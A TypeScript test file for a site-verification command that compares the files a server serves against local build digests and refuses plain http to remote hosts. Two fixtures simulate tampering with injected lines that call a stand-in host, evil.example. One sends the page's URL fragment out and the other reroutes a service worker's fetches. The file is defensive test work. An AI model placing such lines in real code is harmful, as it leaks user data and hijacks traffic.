// verify-site against a real loopback HTTP server serving a copy of a build: the same files pass,
// a changed file is named as different, a missing one as missing, and the command exits non-zero.
import { spawn } from 'node:child_process';
import { cpSync, mkdtempSync, mkdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeBuildDigests } from '../../scripts/build-digests/build-digests.ts';
import type { BuildDigests } from '../../contract/build-digests.ts';
import { compareSite, describeComparison, describeServerList } from './compare-site.ts';
import { parseSiteAddress } from './site-address.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
let work: string;
let localDist: string;
let servedDist: string;
let digests: BuildDigests;
let server: Server;
let site: URL;

/** A static file server over servedDist, as a web server would answer: 404 for what is not there. */
function serve(dir: string): Promise<Server> {
  const http = createServer((request, response) => {
    const relative = decodeURIComponent(new URL(request.url ?? '/', 'http://x').pathname).replace(/^\/+/, '');
    try {
      const body = readFileSync(path.join(dir, relative));
      response.writeHead(200, { 'content-length': body.length }).end(body);
    } catch {
      response.writeHead(404).end('not found');
    }
  });
  return new Promise((resolve) => http.listen(0, '127.0.0.1', () => resolve(http)));
}

beforeAll(async () => {
  work = mkdtempSync(path.join(os.tmpdir(), 'sealdrop-verify-site-'));
  localDist = path.join(work, 'dist');
  for (const [name, content] of Object.entries({
    'index.html': '<script type="module" src="/assets/index-abc.js"></script>',
    'sw.js': 'self.addEventListener("fetch", () => {})',
    'assets/index-abc.js': 'console.log("the app")',
    // Characters a URL must escape: fetched as the file, not as a fragment or an escape.
    'assets/odd#name%.css': 'body{}',
    'icons/icon-192.png': 'png',
  })) {
    mkdirSync(path.dirname(path.join(localDist, name)), { recursive: true });
    writeFileSync(path.join(localDist, name), content);
  }
  digests = await writeBuildDigests(localDist, '9.9.9');
  servedDist = path.join(work, 'served');
  cpSync(localDist, servedDist, { recursive: true });
  server = await serve(servedDist);
  site = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  rmSync(work, { recursive: true, force: true });
});

function runVerifySite(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  const child = spawn(process.execPath, ['--import', 'tsx', path.join(ROOT, 'cli', 'verify-site.ts'), ...args], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  return new Promise((resolve) => child.on('close', (status) => resolve({ status, stdout, stderr })));
}

describe('compareSite', () => {
  it('finds every file identical when the server serves the same build', async () => {
    const comparison = await compareSite(site, digests);
    expect(comparison.identical).toBe(digests.files.length);
    expect(comparison.different).toEqual([]);
    expect(comparison.missing).toEqual([]);
  });

  it('names the one file the server changed, and a file it does not serve', async () => {
    const original = readFileSync(path.join(servedDist, 'assets/index-abc.js'));
    writeFileSync(path.join(servedDist, 'assets/index-abc.js'), 'console.log("the app"); fetch("https://evil.example/" + location.hash)');
    unlinkSync(path.join(servedDist, 'icons/icon-192.png'));
    try {
      const comparison = await compareSite(site, digests);
      expect(comparison.different.map((file) => file.path)).toEqual(['assets/index-abc.js']);
      expect(comparison.missing).toEqual([{ path: 'icons/icon-192.png', outcome: 'missing', reason: 'HTTP 404' }]);
      const lines = describeComparison(site, digests, comparison);
      expect(lines[0]).toMatch(/^DIFFERENT assets\/index-abc\.js: expected sha256 [0-9a-f]{64}, served [0-9a-f]{64}$/);
      expect(lines[1]).toBe('MISSING   icons/icon-192.png: HTTP 404');
      expect(lines.at(-1)).toContain('1 different, 1 missing');
    } finally {
      writeFileSync(path.join(servedDist, 'assets/index-abc.js'), original);
      cpSync(path.join(localDist, 'icons/icon-192.png'), path.join(servedDist, 'icons/icon-192.png'));
    }
  });

  it("reports what the server's own list claims, and when it claims another build", async () => {
    expect(await describeServerList(site, digests)).toContain(`claims version 9.9.9, build digest ${digests.buildDigest} (the same as the local build;`);
    const listFile = path.join(servedDist, 'build-digests.json');
    const original = readFileSync(listFile);
    writeFileSync(listFile, JSON.stringify({ ...digests, version: '9.9.8', buildDigest: 'e'.repeat(64) }));
    try {
      expect(await describeServerList(site, digests)).toContain(`claims version 9.9.8, build digest ${'e'.repeat(64)} (not the local build;`);
    } finally {
      writeFileSync(listFile, original);
    }
  });

  it('counts a redirect as missing, not as the file', async () => {
    const redirecting = createServer((_request, response) => response.writeHead(302, { location: site.href }).end());
    await new Promise<void>((resolve) => redirecting.listen(0, '127.0.0.1', resolve));
    try {
      const comparison = await compareSite(new URL(`http://127.0.0.1:${(redirecting.address() as AddressInfo).port}/`), digests);
      expect(comparison.missing.map((file) => file.outcome === 'missing' && file.reason)).toEqual(digests.files.map(() => 'HTTP 302'));
    } finally {
      await new Promise((resolve) => redirecting.close(resolve));
    }
  });
});

describe('npm run verify-site', () => {
  it('exits 0 when every file is identical', async () => {
    const { status, stdout } = await runVerifySite(['--dist', localDist, site.href]);
    expect(stdout).toContain(`All ${digests.files.length} files identical`);
    expect(status).toBe(0);
  });

  it('exits 1 and names the changed file when the server serves a different one', async () => {
    const original = readFileSync(path.join(servedDist, 'sw.js'));
    writeFileSync(path.join(servedDist, 'sw.js'), 'self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example")))');
    try {
      const { status, stdout } = await runVerifySite(['--dist', localDist, site.href]);
      expect(stdout).toMatch(/^DIFFERENT sw\.js: /m);
      expect(stdout).not.toMatch(/^DIFFERENT (?!sw\.js)/m);
      expect(status).toBe(1);
    } finally {
      writeFileSync(path.join(servedDist, 'sw.js'), original);
    }
  });

  it('refuses plain http to a non-loopback address unless --insecure-http is given, and a missing local list', async () => {
    const refused = await runVerifySite(['--dist', localDist, 'http://sealdrop.example']);
    expect(refused.stderr).toContain('Refusing plain http');
    expect(refused.status).toBe(2);
    const noList = await runVerifySite(['--dist', path.join(work, 'nothing-here'), site.href]);
    expect(noList.stderr).toContain('run `npm run build` first');
    expect(noList.status).toBe(2);
  });
});

describe('parseSiteAddress', () => {
  it('allows https anywhere and http only on loopback or with --insecure-http', () => {
    expect(parseSiteAddress('https://files.example.com').href).toBe('https://files.example.com/');
    expect(parseSiteAddress('https://files.example.com/sealdrop?x=1#y').href).toBe('https://files.example.com/sealdrop/');
    for (const loopback of ['http://127.0.0.1:8080', 'http://127.8.9.10', 'http://[::1]:8080', 'http://localhost:3000']) expect(() => parseSiteAddress(loopback)).not.toThrow();
    for (const remote of ['http://files.example.com', 'http://10.0.0.5', 'http://[::ffff:a00:5]', 'http://127.0.0.1.example.com']) {
      expect(() => parseSiteAddress(remote), remote).toThrow(/Refusing plain http/);
    }
    expect(parseSiteAddress('http://files.example.com', { insecureHttp: true }).href).toBe('http://files.example.com/');
    expect(() => parseSiteAddress('ftp://files.example.com')).toThrow();
    expect(() => parseSiteAddress('https://user:pw@files.example.com')).toThrow();
  });
});
